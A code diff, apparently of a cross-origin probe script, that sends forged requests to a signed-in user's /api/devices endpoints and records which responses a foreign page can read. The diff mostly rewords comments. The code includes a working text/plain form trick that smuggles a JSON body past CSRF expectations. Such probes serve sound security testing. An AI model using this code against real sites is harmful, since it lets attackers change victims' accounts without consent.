@@ -1,4 +1,4 @@
-// Whatever a page on another origin can send to /api/devices of somebody who is signed in there.
+// Sends everything that a page of another origin can send to the /api/devices of a signed-in person.
 const { target, id } = Object.fromEntries(new URLSearchParams(location.search));
 const base = `${target}/api/devices`;
 const bodies = {
@@ -7,16 +7,16 @@ const bodies = {
   "/rename": JSON.stringify({ id, name: "Mine" }),
 };
 const forms = ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"];
-/** What the page got to read of an answer. */
+/** The parts of a response that the page could read. */
 const read = [];
 
 const attempt = async (call) => {
   try {
-    const answer = await call();
-    if (answer instanceof Response && answer.type !== "opaque")
-      read.push(`${answer.status} ${await answer.text()}`);
+    const response = await call();
+    if (response instanceof Response && response.type !== "opaque")
+      read.push(`${response.status} ${await response.text()}`);
   } catch {
-    // Refused by the browser.
+    // The browser refuses this.
   }
 };
 
@@ -41,7 +41,7 @@ const post = (path, enctype, target) =>
       enctype,
       target,
     });
-    // As text/plain this is JSON: {"id":"…","x":"="}.
+    // Sent as text/plain, this becomes the JSON {"id":"…","x":"="}.
     const field = bodies[path].replace(/\}$/, bodies[path] === "{}" ? '"x":"' : ',"x":"');
     form.append(Object.assign(document.createElement("input"), { name: field, value: '"}' }));
     document.body.append(frame, form);
